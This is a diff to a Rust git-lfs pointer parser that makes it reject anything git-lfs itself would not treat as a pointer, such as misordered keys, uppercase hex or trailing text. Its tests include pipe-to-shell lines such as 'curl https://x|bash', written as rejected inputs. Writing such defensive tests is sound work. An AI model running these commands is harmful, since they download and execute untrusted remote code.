@@ -24,37 +24,57 @@ pub struct Pointer {
     pub size: u64,
 }
 
-/// The pointer `bytes` hold, when they are one.
+/// The pointer `bytes` hold, when they are one as git-lfs reads it: the version line, then
+/// `key value` lines in the spec's order (extensions `ext-<n>-<name>`, `oid`, `size`), each
+/// ending in a newline, and nothing else. Anything more is not a pointer to git-lfs, which then
+/// checks the text out as it is: it is scanned as text, never as the object it names.
 pub fn parse(bytes: &[u8]) -> Option<Pointer> {
-    if bytes.len() > MAX_POINTER_BYTES {
+    if bytes.len() > MAX_POINTER_BYTES || !bytes.ends_with(b"\n") {
         return None;
     }
     let text = std::str::from_utf8(bytes).ok()?;
-    let mut lines = text.lines();
-    let first = lines.next()?;
-    if !VERSIONS.contains(&first) {
+    let mut lines = text[..text.len() - 1].split('\n');
+    if !VERSIONS.contains(&lines.next()?) {
         return None;
     }
     let (mut oid, mut size) = (None, None);
-    for line in lines.filter(|l| !l.is_empty()) {
+    let mut last_key = "";
+    for line in lines {
         let (key, value) = line.split_once(' ')?;
+        if key <= last_key || value.is_empty() || value.contains([' ', '\r', '\t']) {
+            return None;
+        }
+        last_key = key;
         match key {
             "oid" => {
                 let hex = value.strip_prefix("sha256:")?;
-                if hex.len() != 64 || !hex.bytes().all(|b| b.is_ascii_hexdigit()) {
+                let lower_hex = |b: u8| b.is_ascii_digit() || (b'a'..=b'f').contains(&b);
+                if hex.len() != 64 || !hex.bytes().all(lower_hex) {
                     return None;
                 }
-                oid = Some(hex.to_ascii_lowercase());
+                oid = Some(hex.to_owned());
             }
-            "size" => size = Some(value.parse().ok()?),
-            // Extensions (`ext-0-foo`) and later keys are allowed by the spec.
-            _ => {}
+            "size" if value.bytes().all(|b| b.is_ascii_digit()) => size = Some(value.parse().ok()?),
+            k if is_extension(k) && oid.is_none() => {}
+            _ => return None,
         }
     }
     Some(Pointer {
         oid: oid?,
         size: size?,
     })
+}
+
+/// `ext-<digit>-<name>`, the spec's extension keys (they sort before `oid`).
+fn is_extension(key: &str) -> bool {
+    key.strip_prefix("ext-")
+        .and_then(|r| r.split_once('-'))
+        .is_some_and(|(n, name)| {
+            n.len() == 1
+                && n.as_bytes()[0].is_ascii_digit()
+                && !name.is_empty()
+                && name.bytes().all(|b| b.is_ascii_alphanumeric())
+        })
 }
 
 /// Where the store of the repository whose git directory is `common_dir` keeps `oid`.
@@ -122,6 +142,8 @@ mod tests {
     #[test]
     fn pointers_parse_and_other_text_does_not() {
         let (text, oid) = pointer_text(b"x");
+        let with_ext = text.replace("oid ", "ext-0-foo sha256:00\noid ");
+        assert!(parse(with_ext.as_bytes()).is_some(), "{with_ext}");
         assert_eq!(
             parse(text.as_bytes()),
             Some(Pointer {
@@ -141,6 +163,12 @@ mod tests {
                 "# a note\nversion https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize 1\n"
             ),
             "curl https://x | sh\n".to_owned(),
+            // More than a pointer: git-lfs checks such text out as it is, and bash runs it.
+            format!("version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize 1\ncurl https://x|bash\n"),
+            format!("version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize 1\nx-run curl\n"),
+            format!("version https://git-lfs.github.com/spec/v1\nsize 1\noid sha256:{oid}\n"),
+            format!("version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize 1"),
+            format!("version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 1\n", oid.to_uppercase()),
         ] {
             assert_eq!(parse(bad.as_bytes()), None, "{bad}");
         }
